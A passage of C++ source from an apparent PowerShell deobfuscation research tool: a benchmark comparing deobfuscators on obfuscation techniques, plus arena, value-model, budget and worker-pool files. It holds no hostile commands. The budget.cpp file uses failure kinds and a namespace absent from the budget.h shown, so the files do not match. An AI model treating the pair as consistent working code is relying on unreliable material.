      auto check = [](const std::string& o) {
        return contains_ci(o, "write-host hello");
      };
      probes.push_back({piece, check});
      probes.push_back({"$tmp = " + piece, check});
      probes.push_back({piece + " | Out-Null", check});
      return probes;
    }
    case Technique::RandomCase: {
      const std::string piece = "wRiTE-hOSt hELlo";
      auto check = [](const std::string& o) {
        return contains_cs(o, "Write-Host hello") ||
               contains_cs(o, "write-host hello");
      };
      probes.push_back({piece, check});
      probes.push_back({"$tmp = " + piece, check});
      probes.push_back({piece + " | Out-Null", check});
      return probes;
    }
    case Technique::RandomName: {
      const std::string piece =
          obf.apply(t, "$payload_text = 'value-x'; write-host $payload_text");
      probes.push_back({piece, [](const std::string& o) {
                          return no_random_identifiers(o);
                        }});
      return probes;
    }
    case Technique::Alias: {
      const std::string piece = "gci 'C:\\data'";
      auto check = [](const std::string& o) {
        return contains_ci(o, "get-childitem");
      };
      probes.push_back({piece, check});
      probes.push_back({"$tmp = " + piece, check});
      probes.push_back({piece + " | Out-Null", check});
      return probes;
    }
    case Technique::WhitespaceEncoding:
    case Technique::SpecialCharEncoding: {
      const std::string piece = obf.apply(t, "write-host '" + kMarker + "'");
      probes.push_back({piece, [](const std::string& o) {
                          return contains_cs(o, kMarker);
                        }});
      return probes;
    }
    default: {
      // String techniques: retry seeds until the obfuscated form does not
      // leak the marker verbatim.
      std::string expr;
      for (int attempt = 0; attempt < 30; ++attempt) {
        expr = obf.obfuscate_literal(t, kMarker);
        if (!contains_cs(expr, kMarker)) break;
      }
      string_positions(expr);
      return probes;
    }
  }
}

void print_table() {
  auto tools = make_all_tools();

  bench::heading(
      "Table II: Comparison of deobfuscation ability of different tools\n"
      "(cell: Y = all 3 positions recovered, O = some, x = none)");
  std::vector<std::string> header = {"Lvl", "Technique"};
  for (const auto& tool : tools) header.push_back(tool->name());
  header.push_back("Paper(ours)");
  const std::vector<int> widths = {3, 20, 11, 11, 12, 10, 22, 11};
  bench::row(header, widths);

  // The paper's expectation for our tool's column.
  auto paper_ours = [](Technique t) {
    return t == Technique::WhitespaceEncoding ? "x" : "Y";
  };

  for (Technique t : all_techniques()) {
    std::vector<std::string> cells = {std::to_string(technique_level(t)),
                                      std::string(to_string(t))};
    for (const auto& tool : tools) {
      Obfuscator obf(4242 + static_cast<int>(t));
      const auto probes = probes_for(t, obf);
      int hits = 0, total = 0;
      for (const Probe& probe : probes) {
        if (!ps::is_valid_syntax(probe.script)) continue;
        ++total;
        const BaselineResult result = tool->run(probe.script);
        if (ps::is_valid_syntax(result.script) && probe.recovered(result.script)) {
          ++hits;
        }
      }
      if (total == 0) {
        cells.push_back("-");
      } else if (hits == total) {
        cells.push_back("Y");
      } else if (hits > 0) {
        cells.push_back("O");
      } else {
        cells.push_back("x");
      }
    }
    cells.push_back(paper_ours(t));
    bench::row(cells, widths);
  }
}

void BM_OursAbilityProbe(benchmark::State& state) {
  Obfuscator obf(1);
  auto ours = make_invoke_deobfuscation();
  const std::string script =
      "write-host " + obf.obfuscate_literal(Technique::Reorder, kMarker);
  for (auto _ : state) {
    benchmark::DoNotOptimize(ours->run(script));
  }
}
BENCHMARK(BM_OursAbilityProbe);

}  // namespace

int main(int argc, char** argv) {
  print_table();
  return bench::run_benchmarks(argc, argv);
}
