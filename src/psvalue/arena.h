#pragma once

/// \file arena.h
/// Bump-pointer arena for AST nodes (and any other per-parse objects).
///
/// One Arena owns every node of one parse. Allocation is a pointer bump
/// inside a chunk; destruction tears the whole parse down at once by
/// running the registered finalizers in reverse order and returning the
/// chunks to a thread-local freelist, so a hot parse loop touches the
/// global allocator only while growing. Nodes hold raw non-owning child
/// pointers (see ArenaPtr), which removes the per-node unique_ptr graph
/// teardown and lets the ParseCache share a whole tree with a single
/// refcount bump on the Arena.
///
/// Thread model: an Arena is single-threaded while being filled (one
/// parser). A finished tree behind `shared_ptr<Arena>` may be *read* from
/// any number of threads; destruction may happen on any thread. The chunk
/// freelist is thread-local, so concurrent parses never contend on it.
/// The annotation side-table is the one mutating surface that stays live
/// after the parse finishes, so it takes its own mutex.

#include <cstddef>
#include <memory>
#include <mutex>
#include <new>
#include <type_traits>
#include <unordered_map>
#include <utility>
#include <vector>

namespace ps {

class Arena {
 public:
  /// First chunk size; subsequent chunks double up to kMaxChunkBytes.
  static constexpr std::size_t kDefaultChunkBytes = 64 * 1024;
  static constexpr std::size_t kMaxChunkBytes = 1024 * 1024;

  Arena() = default;
  ~Arena();

  Arena(const Arena&) = delete;
  Arena& operator=(const Arena&) = delete;

  /// Raw aligned storage inside the current chunk (grows when needed).
  void* allocate(std::size_t bytes, std::size_t align);

  /// Constructs a T inside the arena. Non-trivially-destructible types are
  /// registered for destruction (reverse construction order) when the arena
  /// dies; trivially-destructible types cost only the pointer bump.
  template <class T, class... Args>
  T* make(Args&&... args) {
    void* mem = allocate(sizeof(T), alignof(T));
    T* obj = ::new (mem) T(std::forward<Args>(args)...);
    if constexpr (!std::is_trivially_destructible_v<T>) {
      finalizers_.push_back(Finalizer{&destroy_thunk<T>, obj});
    }
    return obj;
  }

  /// Total bytes handed out (not counting chunk slack).
  [[nodiscard]] std::size_t bytes_allocated() const { return bytes_allocated_; }
  [[nodiscard]] std::size_t chunk_count() const { return chunks_.size(); }
  [[nodiscard]] std::size_t finalizer_count() const {
    return finalizers_.size();
  }

  /// Diagnostics/tests: chunks parked on the calling thread's freelist.
  static std::size_t thread_freelist_size();
  /// Releases the calling thread's parked chunks back to the allocator.
  static void trim_thread_freelist();

  /// Annotation side-table: derived artifacts (compiled piece bytecode)
  /// keyed by the arena node they were derived from, living exactly as long
  /// as the tree they annotate. Cached parses are shared across worker
  /// threads, so the table is mutex-protected; the annotations themselves
  /// must be immutable once stored. Returns nullptr when absent.
  [[nodiscard]] std::shared_ptr<void> find_annotation(const void* key) const {
    const std::lock_guard<std::mutex> lock(annotations_mu_);
    const auto it = annotations_.find(key);
    return it == annotations_.end() ? nullptr : it->second;
  }
  /// First store wins: if another thread raced an annotation in for `key`,
  /// the existing one is kept and returned (both are derived from the same
  /// node, so they are interchangeable).
  std::shared_ptr<void> store_annotation(const void* key,
                                         std::shared_ptr<void> value) {
    const std::lock_guard<std::mutex> lock(annotations_mu_);
    const auto [it, inserted] = annotations_.emplace(key, std::move(value));
    return it->second;
  }

 private:
  template <class T>
  static void destroy_thunk(void* p) {
    static_cast<T*>(p)->~T();
  }

  struct Chunk {
    std::unique_ptr<std::byte[]> mem;
    std::size_t capacity = 0;
  };
  struct Finalizer {
    void (*destroy)(void*);
    void* object;
  };

  void grow(std::size_t min_bytes);

  std::vector<Chunk> chunks_;
  std::byte* cursor_ = nullptr;
  std::byte* limit_ = nullptr;
  std::vector<Finalizer> finalizers_;
  std::size_t bytes_allocated_ = 0;
  mutable std::mutex annotations_mu_;
  std::unordered_map<const void*, std::shared_ptr<void>> annotations_;
};

/// Non-owning pointer to an arena-allocated node with the pointer surface of
/// unique_ptr (get/->/*, bool, reset, derived-to-base conversion) so code
/// written against `std::unique_ptr<Ast>` members keeps compiling. Copying
/// is allowed — lifetime is the Arena's, not the handle's — which also makes
/// `std::move` at old call sites a plain copy.
template <class T>
class ArenaPtr {
 public:
  ArenaPtr() = default;
  ArenaPtr(std::nullptr_t) {}            // NOLINT(google-explicit-constructor)
  ArenaPtr(T* p) : ptr_(p) {}            // NOLINT(google-explicit-constructor)

  template <class U, class = std::enable_if_t<std::is_convertible_v<U*, T*>>>
  ArenaPtr(ArenaPtr<U> other) : ptr_(other.get()) {}  // NOLINT

  [[nodiscard]] T* get() const { return ptr_; }
  T& operator*() const { return *ptr_; }
  T* operator->() const { return ptr_; }
  explicit operator bool() const { return ptr_ != nullptr; }
  void reset(T* p = nullptr) { ptr_ = p; }

  friend bool operator==(const ArenaPtr& a, const ArenaPtr& b) {
    return a.ptr_ == b.ptr_;
  }
  friend bool operator==(const ArenaPtr& a, std::nullptr_t) {
    return a.ptr_ == nullptr;
  }

 private:
  T* ptr_ = nullptr;
};

}  // namespace ps
