#include "psvalue/value.h"

#include <cctype>
#include <charconv>
#include <cmath>
#include <cstdio>

namespace ps {

namespace {

bool str_iequals(std::string_view a, std::string_view b) {
  if (a.size() != b.size()) return false;
  for (std::size_t i = 0; i < a.size(); ++i) {
    if (std::tolower(static_cast<unsigned char>(a[i])) !=
        std::tolower(static_cast<unsigned char>(b[i]))) {
      return false;
    }
  }
  return true;
}

bool parse_number(std::string_view s, std::int64_t& i, double& d, bool& is_int) {
  // Trim whitespace as .NET parsing does.
  while (!s.empty() && std::isspace(static_cast<unsigned char>(s.front()))) s.remove_prefix(1);
  while (!s.empty() && std::isspace(static_cast<unsigned char>(s.back()))) s.remove_suffix(1);
  if (s.empty()) return false;
  bool neg = false;
  std::string_view body = s;
  if (body.front() == '-' || body.front() == '+') {
    neg = body.front() == '-';
    body.remove_prefix(1);
  }
  if (body.size() > 2 && body[0] == '0' && (body[1] == 'x' || body[1] == 'X')) {
    std::int64_t v = 0;
    auto [p, ec] = std::from_chars(body.data() + 2, body.data() + body.size(), v, 16);
    if (ec != std::errc() || p != body.data() + body.size()) return false;
    i = neg ? -v : v;
    is_int = true;
    return true;
  }
  // Integer?
  {
    std::int64_t v = 0;
    auto [p, ec] = std::from_chars(body.data(), body.data() + body.size(), v);
    if (ec == std::errc() && p == body.data() + body.size()) {
      i = neg ? -v : v;
      is_int = true;
      return true;
    }
  }
  // Double.
  {
    double v = 0;
    auto [p, ec] = std::from_chars(body.data(), body.data() + body.size(), v);
    if (ec == std::errc() && p == body.data() + body.size()) {
      d = neg ? -v : v;
      is_int = false;
      return true;
    }
  }
  return false;
}

}  // namespace

const Value* Hashtable::find(std::string_view key) const {
  for (const auto& [k, v] : entries) {
    // Keys compare by their display form, case-insensitively — numeric keys
    // ($matches[1]) and string keys both resolve.
    if (str_iequals(k.to_display_string(), key)) return &v;
  }
  return nullptr;
}

std::string utf8_encode(std::uint32_t code) {
  std::string out;
  if (code < 0x80) {
    out.push_back(static_cast<char>(code));
  } else if (code < 0x800) {
    out.push_back(static_cast<char>(0xC0 | (code >> 6)));
    out.push_back(static_cast<char>(0x80 | (code & 0x3F)));
  } else if (code < 0x10000) {
    out.push_back(static_cast<char>(0xE0 | (code >> 12)));
    out.push_back(static_cast<char>(0x80 | ((code >> 6) & 0x3F)));
    out.push_back(static_cast<char>(0x80 | (code & 0x3F)));
  } else {
    out.push_back(static_cast<char>(0xF0 | (code >> 18)));
    out.push_back(static_cast<char>(0x80 | ((code >> 12) & 0x3F)));
    out.push_back(static_cast<char>(0x80 | ((code >> 6) & 0x3F)));
    out.push_back(static_cast<char>(0x80 | (code & 0x3F)));
  }
  return out;
}

std::string format_double(double d) {
  if (d == static_cast<double>(static_cast<std::int64_t>(d)) &&
      std::abs(d) < 1e15) {
    char buf[32];
    std::snprintf(buf, sizeof(buf), "%lld", static_cast<long long>(d));
    return buf;
  }
  char buf[64];
  std::snprintf(buf, sizeof(buf), "%.15g", d);
  return buf;
}

std::string Value::type_name() const {
  struct Visitor {
    std::string operator()(std::monostate) const { return "Null"; }
    std::string operator()(bool) const { return "Boolean"; }
    std::string operator()(std::int64_t) const { return "Int64"; }
    std::string operator()(double) const { return "Double"; }
    std::string operator()(PsChar) const { return "Char"; }
    std::string operator()(const std::string&) const { return "String"; }
    std::string operator()(const std::shared_ptr<Array>&) const { return "Object[]"; }
    std::string operator()(const std::shared_ptr<Bytes>&) const { return "Byte[]"; }
    std::string operator()(const std::shared_ptr<Hashtable>&) const { return "Hashtable"; }
    std::string operator()(const ScriptBlock&) const { return "ScriptBlock"; }
    std::string operator()(const std::shared_ptr<PsObject>& o) const {
      return o ? o->type_name() : "Null";
    }
  };
  return std::visit(Visitor{}, v_);
}

std::string Value::to_display_string() const {
  struct Visitor {
    std::string operator()(std::monostate) const { return ""; }
    std::string operator()(bool b) const { return b ? "True" : "False"; }
    std::string operator()(std::int64_t i) const { return std::to_string(i); }
    std::string operator()(double d) const { return format_double(d); }
    std::string operator()(PsChar c) const { return utf8_encode(c.code); }
    std::string operator()(const std::string& s) const { return s; }
    std::string operator()(const std::shared_ptr<Array>& a) const {
      std::string out;
      for (std::size_t i = 0; i < a->size(); ++i) {
        if (i) out.push_back(' ');
        out += (*a)[i].to_display_string();
      }
      return out;
    }
    std::string operator()(const std::shared_ptr<Bytes>& b) const {
      std::string out;
      for (std::size_t i = 0; i < b->size(); ++i) {
        if (i) out.push_back(' ');
        out += std::to_string((*b)[i]);
      }
      return out;
    }
    std::string operator()(const std::shared_ptr<Hashtable>&) const {
      return "System.Collections.Hashtable";
    }
    std::string operator()(const ScriptBlock& sb) const { return sb.text; }
    std::string operator()(const std::shared_ptr<PsObject>& o) const {
      return o ? o->to_display() : "";
    }
  };
  return std::visit(Visitor{}, v_);
}

bool Value::to_bool() const {
  struct Visitor {
    bool operator()(std::monostate) const { return false; }
    bool operator()(bool b) const { return b; }
    bool operator()(std::int64_t i) const { return i != 0; }
    bool operator()(double d) const { return d != 0.0; }
    bool operator()(PsChar c) const { return c.code != 0; }
    bool operator()(const std::string& s) const { return !s.empty(); }
    bool operator()(const std::shared_ptr<Array>& a) const {
      if (a->empty()) return false;
      if (a->size() == 1) return (*a)[0].to_bool();
      return true;
    }
    bool operator()(const std::shared_ptr<Bytes>& b) const { return !b->empty(); }
    bool operator()(const std::shared_ptr<Hashtable>&) const { return true; }
    bool operator()(const ScriptBlock&) const { return true; }
    bool operator()(const std::shared_ptr<PsObject>& o) const { return o != nullptr; }
  };
  return std::visit(Visitor{}, v_);
}

bool Value::try_to_int(std::int64_t& out) const {
  if (is_int()) {
    out = get_int();
    return true;
  }
  if (is_double()) {
    out = static_cast<std::int64_t>(std::llround(get_double()));
    return true;
  }
  if (is_bool()) {
    out = get_bool() ? 1 : 0;
    return true;
  }
  if (is_char()) {
    out = get_char().code;
    return true;
  }
  if (is_string()) {
    std::int64_t i = 0;
    double d = 0;
    bool isint = false;
    if (!parse_number(get_string(), i, d, isint)) return false;
    out = isint ? i : static_cast<std::int64_t>(std::llround(d));
    return true;
  }
  if (is_null()) {
    out = 0;
    return true;
  }
  return false;
}

bool Value::try_to_double(double& out) const {
  if (is_double()) {
    out = get_double();
    return true;
  }
  if (is_int()) {
    out = static_cast<double>(get_int());
    return true;
  }
  if (is_bool()) {
    out = get_bool() ? 1.0 : 0.0;
    return true;
  }
  if (is_char()) {
    out = static_cast<double>(get_char().code);
    return true;
  }
  if (is_string()) {
    std::int64_t i = 0;
    double d = 0;
    bool isint = false;
    if (!parse_number(get_string(), i, d, isint)) return false;
    out = isint ? static_cast<double>(i) : d;
    return true;
  }
  if (is_null()) {
    out = 0.0;
    return true;
  }
  return false;
}

Value Value::from_stream(std::vector<Value> items) {
  if (items.empty()) return Value();
  if (items.size() == 1) return std::move(items[0]);
  Array out;
  out.reserve(items.size());
  for (auto& it : items) out.push_back(std::move(it));
  return Value(std::move(out));
}

bool operator==(const Value& a, const Value& b) {
  if (a.v_.index() != b.v_.index()) {
    // Cross-type numeric equality keeps tests ergonomic.
    if (a.is_number() && b.is_number()) {
      double x = 0, y = 0;
      a.try_to_double(x);
      b.try_to_double(y);
      return x == y;
    }
    return false;
  }
  struct Visitor {
    const Value& rhs;
    bool operator()(std::monostate) const { return true; }
    bool operator()(bool v) const { return v == rhs.get_bool(); }
    bool operator()(std::int64_t v) const { return v == rhs.get_int(); }
    bool operator()(double v) const { return v == rhs.get_double(); }
    bool operator()(PsChar v) const { return v == rhs.get_char(); }
    bool operator()(const std::string& v) const { return v == rhs.get_string(); }
    bool operator()(const std::shared_ptr<Array>& v) const {
      const auto& o = rhs.get_array();
      if (v->size() != o.size()) return false;
      for (std::size_t i = 0; i < v->size(); ++i) {
        if (!((*v)[i] == o[i])) return false;
      }
      return true;
    }
    bool operator()(const std::shared_ptr<Bytes>& v) const {
      return *v == rhs.get_bytes();
    }
    bool operator()(const std::shared_ptr<Hashtable>& v) const {
      return v.get() == std::get<std::shared_ptr<Hashtable>>(rhs.v_).get();
    }
    bool operator()(const ScriptBlock& v) const {
      return v == rhs.get_scriptblock();
    }
    bool operator()(const std::shared_ptr<PsObject>& v) const {
      return v.get() == rhs.get_object().get();
    }
  };
  return std::visit(Visitor{b}, a.v_);
}

}  // namespace ps
