#pragma once

/// \file value.h
/// The PowerShell runtime value model used by the mini interpreter.
///
/// PowerShell is dynamically typed over .NET values; the deobfuscation
/// recovery step (paper section III-B2) needs exactly the distinctions this
/// model draws: String and Number results are written back into the script,
/// Char behaves like a one-character string under concatenation, Byte[]
/// feeds the encoding/compression pipelines, and opaque Objects cause the
/// recoverable piece to be kept as-is.

#include <cstdint>
#include <memory>
#include <string>
#include <string_view>
#include <variant>
#include <vector>

namespace ps {

class Value;
class PsObject;

using Array = std::vector<Value>;
using Bytes = std::vector<std::uint8_t>;

/// A single UTF-32 code point, the analogue of .NET System.Char.
struct PsChar {
  std::uint32_t code = 0;
  friend bool operator==(const PsChar&, const PsChar&) = default;
};

/// A deferred script block value ({ ... }). Evaluation reparses `text`,
/// which keeps the value model independent of the AST library.
struct ScriptBlock {
  std::string text;  ///< body text, without the surrounding braces
  friend bool operator==(const ScriptBlock&, const ScriptBlock&) = default;
};

/// An ordered, case-insensitive (for string keys) hashtable (@{...}).
struct Hashtable {
  std::vector<std::pair<Value, Value>> entries;
  /// Returns the value for a string key (case-insensitive) or nullptr.
  const Value* find(std::string_view key) const;
};

/// Base for opaque runtime objects (WebClient, MemoryStream, ...). These
/// are produced by New-Object and .NET statics; when one is the result of
/// executing a recoverable piece, the deobfuscator keeps the original text.
class PsObject {
 public:
  virtual ~PsObject() = default;
  /// The .NET-style type name, e.g. "System.Net.WebClient".
  [[nodiscard]] virtual std::string type_name() const = 0;
  /// What string interpolation would produce; defaults to the type name.
  [[nodiscard]] virtual std::string to_display() const { return type_name(); }
};

/// A discriminated union over the PowerShell value kinds our interpreter
/// produces. Copying is cheap: aggregates are shared_ptr-backed, matching
/// .NET reference semantics for arrays/hashtables/objects.
class Value {
 public:
  using Storage =
      std::variant<std::monostate, bool, std::int64_t, double, PsChar,
                   std::string, std::shared_ptr<Array>, std::shared_ptr<Bytes>,
                   std::shared_ptr<Hashtable>, ScriptBlock,
                   std::shared_ptr<PsObject>>;

  Value() = default;  // $null
  Value(bool b) : v_(b) {}
  Value(std::int64_t i) : v_(i) {}
  Value(int i) : v_(static_cast<std::int64_t>(i)) {}
  Value(double d) : v_(d) {}
  Value(PsChar c) : v_(c) {}
  Value(std::string s) : v_(std::move(s)) {}
  Value(const char* s) : v_(std::string(s)) {}
  Value(std::string_view s) : v_(std::string(s)) {}
  Value(Array a) : v_(std::make_shared<Array>(std::move(a))) {}
  Value(Bytes b) : v_(std::make_shared<Bytes>(std::move(b))) {}
  Value(Hashtable h) : v_(std::make_shared<Hashtable>(std::move(h))) {}
  Value(ScriptBlock sb) : v_(std::move(sb)) {}
  Value(std::shared_ptr<PsObject> o) : v_(std::move(o)) {}

  [[nodiscard]] bool is_null() const { return std::holds_alternative<std::monostate>(v_); }
  [[nodiscard]] bool is_bool() const { return std::holds_alternative<bool>(v_); }
  [[nodiscard]] bool is_int() const { return std::holds_alternative<std::int64_t>(v_); }
  [[nodiscard]] bool is_double() const { return std::holds_alternative<double>(v_); }
  [[nodiscard]] bool is_number() const { return is_int() || is_double(); }
  [[nodiscard]] bool is_char() const { return std::holds_alternative<PsChar>(v_); }
  [[nodiscard]] bool is_string() const { return std::holds_alternative<std::string>(v_); }
  [[nodiscard]] bool is_array() const { return std::holds_alternative<std::shared_ptr<Array>>(v_); }
  [[nodiscard]] bool is_bytes() const { return std::holds_alternative<std::shared_ptr<Bytes>>(v_); }
  [[nodiscard]] bool is_hashtable() const { return std::holds_alternative<std::shared_ptr<Hashtable>>(v_); }
  [[nodiscard]] bool is_scriptblock() const { return std::holds_alternative<ScriptBlock>(v_); }
  [[nodiscard]] bool is_object() const { return std::holds_alternative<std::shared_ptr<PsObject>>(v_); }

  [[nodiscard]] bool get_bool() const { return std::get<bool>(v_); }
  [[nodiscard]] std::int64_t get_int() const { return std::get<std::int64_t>(v_); }
  [[nodiscard]] double get_double() const { return std::get<double>(v_); }
  [[nodiscard]] PsChar get_char() const { return std::get<PsChar>(v_); }
  [[nodiscard]] const std::string& get_string() const { return std::get<std::string>(v_); }
  [[nodiscard]] Array& get_array() { return *std::get<std::shared_ptr<Array>>(v_); }
  [[nodiscard]] const Array& get_array() const { return *std::get<std::shared_ptr<Array>>(v_); }
  [[nodiscard]] Bytes& get_bytes() { return *std::get<std::shared_ptr<Bytes>>(v_); }
  [[nodiscard]] const Bytes& get_bytes() const { return *std::get<std::shared_ptr<Bytes>>(v_); }
  [[nodiscard]] Hashtable& get_hashtable() { return *std::get<std::shared_ptr<Hashtable>>(v_); }
  [[nodiscard]] const Hashtable& get_hashtable() const { return *std::get<std::shared_ptr<Hashtable>>(v_); }
  [[nodiscard]] const ScriptBlock& get_scriptblock() const { return std::get<ScriptBlock>(v_); }
  [[nodiscard]] const std::shared_ptr<PsObject>& get_object() const {
    return std::get<std::shared_ptr<PsObject>>(v_);
  }

  /// .NET-ish type name: "String", "Int64", "Double", "Char", "Boolean",
  /// "Object[]", "Byte[]", "Hashtable", "ScriptBlock", object type names.
  [[nodiscard]] std::string type_name() const;

  /// The string .ToString() would produce (used for interpolation and for
  /// writing recovered values back into scripts). Arrays join elements with
  /// a single space, matching $OFS-default interpolation.
  [[nodiscard]] std::string to_display_string() const;

  /// PowerShell truthiness: $null/0/""/empty array are false.
  [[nodiscard]] bool to_bool() const;

  /// Numeric coercion following PowerShell rules (strings parse as numbers,
  /// chars use their code point). Returns false if not coercible.
  bool try_to_int(std::int64_t& out) const;
  bool try_to_double(double& out) const;

  /// Flattens nested arrays one level, the way PowerShell pipelines do.
  [[nodiscard]] static Value from_stream(std::vector<Value> items);

  [[nodiscard]] const Storage& storage() const { return v_; }

  friend bool operator==(const Value& a, const Value& b);

 private:
  Storage v_;
};

/// Renders a UTF-32 code point as UTF-8.
std::string utf8_encode(std::uint32_t code);

/// Formats a double like PowerShell/.NET would (no trailing zeros).
std::string format_double(double d);

}  // namespace ps
