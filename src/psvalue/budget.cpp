#include "psvalue/budget.h"

#include <limits>

namespace ideobf {

const char* to_string(FailureKind kind) {
  switch (kind) {
    case FailureKind::None: return "none";
    case FailureKind::Timeout: return "timeout";
    case FailureKind::StepLimit: return "step-limit";
    case FailureKind::DepthLimit: return "depth-limit";
    case FailureKind::MemoryBudget: return "memory-budget";
    case FailureKind::ParseError: return "parse-error";
    case FailureKind::BlockedCommand: return "blocked-command";
    case FailureKind::EvalError: return "eval-error";
    case FailureKind::Cancelled: return "cancelled";
    case FailureKind::Internal: return "internal";
    case FailureKind::WorkerCrash: return "worker-crash";
    case FailureKind::Quarantined: return "quarantined";
  }
  return "internal";
}

FailureKind failure_from_string(std::string_view name) {
  if (name == "none") return FailureKind::None;
  if (name == "timeout") return FailureKind::Timeout;
  if (name == "step-limit") return FailureKind::StepLimit;
  if (name == "depth-limit") return FailureKind::DepthLimit;
  if (name == "memory-budget") return FailureKind::MemoryBudget;
  if (name == "parse-error") return FailureKind::ParseError;
  if (name == "blocked-command") return FailureKind::BlockedCommand;
  if (name == "eval-error") return FailureKind::EvalError;
  if (name == "cancelled") return FailureKind::Cancelled;
  if (name == "worker-crash") return FailureKind::WorkerCrash;
  if (name == "quarantined") return FailureKind::Quarantined;
  return FailureKind::Internal;
}

int failure_severity(FailureKind kind) {
  switch (kind) {
    case FailureKind::None: return 0;
    case FailureKind::ParseError: return 1;
    case FailureKind::EvalError: return 2;
    case FailureKind::BlockedCommand: return 3;
    case FailureKind::StepLimit: return 4;
    case FailureKind::DepthLimit: return 5;
    case FailureKind::MemoryBudget: return 6;
    case FailureKind::Timeout: return 7;
    case FailureKind::Cancelled: return 8;
    // Fleet-level outcomes: a quarantine refusal is an expected answer for a
    // known-killer hash, a live worker crash is the worst thing the service
    // can observe short of an internal bug.
    case FailureKind::Quarantined: return 9;
    case FailureKind::WorkerCrash: return 10;
    case FailureKind::Internal: return 11;
  }
  return 11;
}

FailureKind worse_failure(FailureKind a, FailureKind b) {
  return failure_severity(b) > failure_severity(a) ? b : a;
}

CancellationToken CancellationToken::make() {
  CancellationToken token;
  token.state_ = std::make_shared<std::atomic<bool>>(false);
  return token;
}

}  // namespace ideobf

namespace ps {

Budget::Budget(const Limits& limits)
    : max_bytes_(limits.max_bytes), cancel_(limits.cancel) {
  if (limits.wall_seconds > 0.0) {
    has_deadline_ = true;
    deadline_ = Clock::now() + std::chrono::duration_cast<Clock::duration>(
                                   std::chrono::duration<double>(limits.wall_seconds));
  }
}

void Budget::check_deadline_now() {
  if (Clock::now() > deadline_) {
    throw BudgetError(FailureKind::Timeout, "wall-clock deadline exceeded");
  }
}

void Budget::throw_cancelled() const {
  throw BudgetError(FailureKind::Cancelled,
                    std::string(ideobf::kCancelledDetail));
}

void Budget::throw_memory() const {
  throw BudgetError(FailureKind::MemoryBudget,
                    "cumulative allocation budget exceeded");
}

FailureKind Budget::peek() const {
  if (cancel_.cancelled()) return FailureKind::Cancelled;
  if (has_deadline_ && Clock::now() > deadline_) return FailureKind::Timeout;
  if (max_bytes_ != 0 && bytes_ > max_bytes_) return FailureKind::MemoryBudget;
  return FailureKind::None;
}

double Budget::remaining_seconds() const {
  if (!has_deadline_) return std::numeric_limits<double>::infinity();
  return std::chrono::duration<double>(deadline_ - Clock::now()).count();
}

}  // namespace ps
