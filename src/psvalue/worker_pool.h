#pragma once

/// \file worker_pool.h
/// Process-lifetime work-stealing thread pool.
///
/// deobfuscate_batch used to spawn a fresh set of jthreads per call; under
/// a server-style workload (many small batches) thread creation and the
/// cold per-thread allocator caches dominated. This pool keeps its threads
/// for the process lifetime, so per-thread state — the arena chunk
/// freelist, malloc caches — stays warm across batches.
///
/// Scheduling: each submitted job is split across up to `max_workers`
/// *slots*. Every slot owns a deque seeded round-robin with item indices;
/// an executor drains its own deque from the front and, when empty, steals
/// from the back of the other slots' deques. The calling thread competes
/// for a slot like any pool worker, so `max_workers == 1` runs entirely on
/// the caller with zero pool traffic, and a pool of N threads serves
/// callers asking for fewer slots without waking the rest.
///
/// The slot index is handed to the body callback so callers can keep
/// per-slot scratch state (e.g. a RecoveryMemo shard) without locking:
/// a slot is staffed by exactly one executor for the job's duration.

#include <atomic>
#include <condition_variable>
#include <cstddef>
#include <cstdint>
#include <deque>
#include <functional>
#include <memory>
#include <mutex>
#include <thread>
#include <vector>

namespace ps {

class WorkerPool {
 public:
  /// The shared process-wide pool. First use spawns the threads.
  static WorkerPool& instance();

  /// Runs `body(item, slot)` for every item in [0, item_count), using at
  /// most `max_workers` concurrent executors (the calling thread counts as
  /// one and always participates when it wins a slot). Blocks until every
  /// item has been executed. `body` must not throw — wrap fallible work in
  /// its own try/catch (deobfuscate_batch seals its items).
  void parallel(std::size_t item_count, unsigned max_workers,
                const std::function<void(std::size_t, unsigned)>& body);

  /// Number of resident pool threads (excluding callers).
  [[nodiscard]] unsigned worker_count() const;

  /// Cumulative cross-slot steals (diagnostics/tests).
  [[nodiscard]] std::uint64_t steal_count() const;
  /// Cumulative jobs completed (diagnostics/tests).
  [[nodiscard]] std::uint64_t job_count() const;

  ~WorkerPool();

  WorkerPool(const WorkerPool&) = delete;
  WorkerPool& operator=(const WorkerPool&) = delete;

 private:
  struct Job;

  explicit WorkerPool(unsigned worker_threads);

  void worker_loop(const std::stop_token& stop);
  void run_slot(Job& job, unsigned slot);
  bool pop_or_steal(Job& job, unsigned slot, std::size_t& item);
  void retire(const std::shared_ptr<Job>& job);

  mutable std::mutex mu_;
  std::condition_variable_any cv_;
  std::deque<std::shared_ptr<Job>> queue_;
  std::atomic<std::uint64_t> steals_{0};
  std::atomic<std::uint64_t> jobs_{0};
  std::vector<std::jthread> workers_;  // last member: joins before the rest dies
};

}  // namespace ps
