#pragma once

/// \file budget.h
/// The execution governor's accounting primitives. The recovery phase
/// executes attacker-controlled script pieces (paper section IV-B), so
/// hostile inputs — scripts built to stall or blow up a dynamic analyzer —
/// are the normal input distribution. A `Budget` bounds one unit of work
/// (typically one batch item) with a wall-clock deadline, a cumulative
/// allocation budget, and an external cancellation token; every engine that
/// can loop or allocate (interpreter, sandbox, recovery, multilayer
/// decoding) checkpoints against it. Budget violations raise `BudgetError`,
/// which — like the interpreter's `LimitError` — is deliberately not an
/// `EvalError`, so script-level try/catch cannot swallow it.

#include <atomic>
#include <chrono>
#include <cstddef>
#include <memory>
#include <stdexcept>
#include <string>

namespace ps {

/// Structured classification of everything that can end or degrade a
/// deobfuscation: the failure taxonomy surfaced in BatchItem,
/// DeobfuscationReport, BehaviorProfile, and the CLI/bench JSON.
enum class FailureKind {
  None,            ///< no failure
  Timeout,         ///< wall-clock deadline exceeded
  StepLimit,       ///< interpreter step cap exceeded
  DepthLimit,      ///< invoke/recursion depth cap exceeded
  MemoryBudget,    ///< single-value size cap or cumulative allocation budget
  ParseError,      ///< input (or intermediate) text does not parse
  BlockedCommand,  ///< execution blocklist refused a command
  EvalError,       ///< runtime evaluation failure
  Cancelled,       ///< external cancellation token fired
  Internal,        ///< anything else, including non-std exceptions
};

/// Stable lowercase-kebab name for reports and JSON ("timeout",
/// "step-limit", ...).
const char* to_string(FailureKind kind);

/// Severity order for picking the dominant failure of a run: governor-level
/// kinds (Cancelled, Timeout, MemoryBudget) outrank per-piece limit kinds,
/// which outrank expected per-piece outcomes (BlockedCommand, EvalError).
/// Internal ranks highest; None is 0.
int failure_severity(FailureKind kind);

/// The more severe of two failures (first wins ties).
FailureKind worse_failure(FailureKind a, FailureKind b);

/// Raised by Budget checkpoints. Not an EvalError, so neither script-level
